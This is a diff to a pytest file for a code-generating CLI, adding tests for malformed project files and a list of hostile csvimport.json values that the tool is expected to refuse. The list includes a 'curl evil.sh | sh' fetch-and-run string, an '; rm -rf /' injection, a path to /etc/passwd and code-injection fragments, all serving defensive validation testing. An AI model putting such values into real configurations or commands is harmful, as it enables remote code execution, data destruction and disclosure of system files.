@@ -92,6 +92,17 @@ def _dependencies_list(root: Path) -> None:
     package.write_text(json.dumps({**data, "dependencies": ["next"]}))
 
 
+def _bundle_directory(root: Path) -> None:
+    bundle = root / ".csvimport/templates.bundle"
+    bundle.unlink()
+    bundle.mkdir()
+
+
+def _latin1_generated_file(root: Path) -> None:
+    generated = root / "src/app/functions/server/services/csv-import/is-record.ts"
+    generated.write_bytes(generated.read_bytes() + LATIN1_COMMENT)
+
+
 BROKEN_PROJECTS = [
     (_corrupt_config, ["check"], "csvimport.json is not UTF-8 text: byte 0xff at offset"),
     (_corrupt_config, ["list"], "csvimport.json is not UTF-8 text: byte 0xff"),
@@ -100,6 +111,12 @@ BROKEN_PROJECTS = [
     (_answers_directory, ["list"], "is a directory, not a file"),
     (_answers_list, ["check"], "must be a mapping with kind: core or kind: feature"),
     (_dependencies_list, ["init", "--force"], '"dependencies" must map package names'),
+    (_bundle_directory, ["new", "user", "--fields", "name:string"], "is not a file"),
+    (_bundle_directory, ["check"], "templates.bundle is not a file"),
+    (_bundle_directory, ["list"], "templates.bundle is not a file"),
+    (_latin1_generated_file, ["check"], "is-record.ts is not UTF-8 text: byte 0xfc at offset"),
+    (_latin1_generated_file, ["list"], "is-record.ts is not UTF-8 text"),
+    (_latin1_generated_file, ["init"], "is-record.ts is not UTF-8 text"),
 ]
 
 
@@ -143,3 +160,40 @@ def test_any_bytes_as_a_spec_file_parse_or_give_a_usage_error(tmp_path_factory, 
 def test_yaml_within_the_limits_loads_as_plain_yaml_would(value):
     text = yaml.safe_dump(value)
     assert load_user_yaml(text, "test") == yaml.safe_load(text)
+
+
+# csvimport.json comes in pull requests: values that would reach generated code or paths
+HOSTILE_CONFIG_VALUES = [
+    ("authFunction", "getUser(); process.exit(1); //", "is not a JavaScript identifier"),
+    ("authFunction", "class", "is not a JavaScript identifier"),
+    ("logExport", "log } from 'x'; import {", "is not a JavaScript identifier"),
+    ("prismaImport", '@/lib/db"; import "evil', "is not an import specifier"),
+    ("logImport", "@/src/app/functions/log\nprocess.exit()", "is not an import specifier"),
+    ("authImport", "../../../etc/passwd", "is not an import specifier"),
+    ("appDir", "/etc", "is not a folder of the project"),
+    ("appDir", "src/../../outside", "is not a folder of the project"),
+    ("dashboardDir", "elsewhere/dashboard", "is not inside appDir"),
+    ("packageManager", "curl evil.sh | sh", "is not one of npm, yarn, pnpm, bun"),
+    ("formatter", "rm", "is not one of prettier, biome"),
+    ("prismaVersion", "7; rm -rf /", "is not a version"),
+    ("prismaImport", "@/lib/nowhere", "resolves to no module of the project"),
+]
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "message"),
+    HOSTILE_CONFIG_VALUES,
+    ids=[f"{k}={v[:20]}" for k, v, _ in HOSTILE_CONFIG_VALUES],
+)
+def test_a_hostile_csvimport_json_value_is_refused_before_anything_is_written(
+    initialized_project: Path, key: str, value: str, message: str
+):
+    config = initialized_project / "csvimport.json"
+    config.write_text(json.dumps({**json.loads(config.read_text()), key: value}))
+    before = tree_snapshot(initialized_project)
+    result = run_cli(
+        "new", "user", "--fields", "name:string", "--project", str(initialized_project)
+    )
+    assert_one_line_usage_error(result, message)
+    assert key in result.stderr
+    assert tree_snapshot(initialized_project) == before
